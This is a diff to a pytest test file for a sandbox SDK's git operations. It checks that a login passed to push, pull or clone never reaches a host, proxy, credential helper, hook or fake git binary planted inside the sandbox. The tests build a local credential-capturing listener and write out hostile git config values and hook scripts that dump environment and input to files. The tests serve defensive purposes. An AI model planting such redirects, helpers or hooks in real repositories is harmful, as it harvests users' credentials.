@@ -47,7 +47,7 @@ def remote(repo: Sandbox) -> Iterator[Sandbox]:
     command = f"python3 /tmp/githttp.py {PORT} /home/daytona/remotes"
     repo.process.execute_session_command("git-server", SessionExecuteRequest(command=command, run_async=True))
     deadline = time.monotonic() + 60
-    while repo.process.exec(f"echo > /dev/tcp/127.0.0.1/{PORT}").exit_code != 0:
+    while repo.process.exec(f"bash -c 'echo > /dev/tcp/127.0.0.1/{PORT}'").exit_code != 0:
         assert time.monotonic() < deadline, "the git server does not answer"
         time.sleep(0.05)
     repo.git.remote_add("r", "origin", PRIVATE)
@@ -223,6 +223,88 @@ def test_credentials_of_a_call_open_the_remote_and_are_kept_by_nobody(remote: Sa
 def test_credentials_are_not_for_another_host(remote: Sandbox) -> None:
     with pytest.raises(DaytonaBadRequestError, match="http"):
         remote.git.clone("/home/daytona/r", "copy", username=NAME, password=PASSWORD)
+
+
+LISTENER = """
+import http.server, sys
+class Handler(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        with open("/tmp/heard", "a") as log:
+            print(self.path, self.headers, file=log)
+        self.send_response(401 if "Authorization" not in self.headers else 404)
+        self.send_header("WWW-Authenticate", 'Basic realm="git"')
+        self.end_headers()
+    do_POST = do_GET
+http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Handler).serve_forever()
+"""
+
+
+@pytest.fixture
+def thief(remote: Sandbox) -> Iterator[str]:
+    """The URL of a server inside that asks whoever comes for a password, and writes it down."""
+    remote.fs.upload_file(LISTENER.encode(), "/tmp/thief.py")
+    remote.process.create_session("thief")
+    command = f"python3 /tmp/thief.py {PORT + 1}"
+    remote.process.execute_session_command("thief", SessionExecuteRequest(command=command, run_async=True))
+    deadline = time.monotonic() + 60
+    while remote.process.exec(f"bash -c 'echo > /dev/tcp/127.0.0.1/{PORT + 1}'").exit_code != 0:
+        assert time.monotonic() < deadline, "the thief does not answer"
+        time.sleep(0.05)
+    yield f"http://127.0.0.1:{PORT + 1}/"
+    remote.process.delete_session("thief")
+
+
+LIES = (
+    "url.{thief}.insteadOf http://127.0.0.1:8418/",
+    "url.{thief}.pushInsteadOf http://127.0.0.1:8418/",
+    "remote.origin.pushurl {thief}private/a.git",
+    "remote.origin.url {thief}private/a.git",
+    "include.path /tmp/more",
+)
+
+
+def test_a_login_goes_to_no_host_that_was_chosen_inside(remote: Sandbox, thief: str) -> None:
+    remote.process.exec(f"git config -f /tmp/more url.{thief}.insteadOf http:// && cp r/.git/config /tmp/right")
+    for lie in LIES:
+        assert (
+            remote.process.exec(f"cp /tmp/right r/.git/config; git -C r config {lie.format(thief=thief)}").exit_code
+            == 0
+        )
+        with pytest.raises(DaytonaBadRequestError, match="login was not used"):
+            remote.git.push("r", NAME, PASSWORD)
+    assert remote.process.exec("cat /tmp/heard").exit_code != 0
+
+
+def test_settings_from_inside_do_not_hold_for_a_call_with_a_login(remote: Sandbox, thief: str) -> None:
+    hook = "#!/bin/sh\n(env; cat <&9) >> /tmp/seen 2>&1; exit 0\n"
+    for name in ("pre-push", "post-merge", "reference-transaction"):
+        remote.fs.upload_file(hook.encode(), f"r/.git/hooks/{name}")
+        remote.fs.set_file_permissions(f"r/.git/hooks/{name}", mode="755")
+    remote.fs.upload_file(hook.encode(), ".local/bin/git")
+    remote.fs.set_file_permissions(".local/bin/git", mode="755")
+    settings = {
+        "http.proxy": thief,
+        f"http.{PRIVATE}.proxy": thief,
+        "remote.origin.proxy": thief,
+        "core.fsmonitor": "/home/daytona/r/.git/hooks/pre-push",
+        "credential.helper": "!cat >> /tmp/seen; true",
+        "http.extraHeader": "X-Odd: 1",
+    }
+    for key, value in settings.items():
+        assert remote.process.exec(f"/usr/bin/git -C r config '{key}' '{value}'").exit_code == 0
+    remote.process.exec(f"/usr/bin/git config --global url.{thief}.insteadOf http://127.0.0.1:{PORT}/")
+    remote.git.push("r", NAME, PASSWORD, set_upstream=True)
+    assert remote.process.exec("cat /tmp/heard /tmp/seen 2>/dev/null").result == ""
+    # Merging runs what the repository wants; by then the password is gone.
+    remote.process.exec("rm .gitconfig .local/bin/git")
+    remote.git.clone(PRIVATE, "copy", username=NAME, password=PASSWORD)
+    remote.git.commit("copy", "more", "Ann", "a@b", allow_empty=True)
+    remote.git.push("copy", NAME, PASSWORD)
+    remote.git.pull("r", NAME, PASSWORD)
+    assert remote.git.status("r").behind == 0
+    seen = remote.process.exec("cat /tmp/seen").result
+    assert "GIT_" in seen
+    assert PASSWORD not in seen
 
 
 def test_credentials_are_kept_where_that_is_asked_for(remote: Sandbox) -> None:
